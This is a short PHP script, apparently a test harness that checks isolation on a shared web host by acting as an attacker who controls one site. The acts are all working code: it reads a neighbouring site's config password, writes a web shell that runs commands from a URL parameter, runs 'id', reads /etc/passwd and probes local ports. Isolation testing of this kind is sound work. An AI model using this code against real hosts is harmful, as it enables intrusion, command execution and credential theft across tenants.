<?php
// What somebody tries who has taken over Alice's site. Each act prints one JSON object: what it saw, and what PHP was told.
$told = [];
set_error_handler(function (int $level, string $message) use (&$told): bool {
    $told[] = $message;
    return true;
});

$acts = [
    'neighbour' => function () {
        $config = include dirname(__DIR__, 2) . '/bob/www/config.php';
        return $config['password'] ?? '';
    },
    'shell' => function () {
        $written = file_put_contents(__DIR__ . '/shell.php', '<?php echo "shell:", shell_exec($_GET["c"]);');
        return $written ? 'written' : '';
    },
    'run' => fn () => trim((string) shell_exec('id')),
    'users' => function () {
        $lines = file('/etc/passwd', FILE_IGNORE_NEW_LINES) ?: [];
        return implode(' ', array_map(fn ($line) => strstr($line, ':', true), $lines));
    },
    'port' => function () use (&$told) {
        $connection = fsockopen('127.0.0.1', (int) $_GET['port'], $errno, $error, 3);
        return $connection ? trim((string) fgets($connection)) : '';
    },
];

try {
    $seen = $acts[$_GET['act']]();
} catch (Throwable $error) {
    $seen = '';
    $told[] = $error->getMessage();
}
header('Content-Type: application/json');
echo json_encode(['seen' => $seen, 'told' => $told, 'shell_visible' => @is_file('/bin/sh')]);
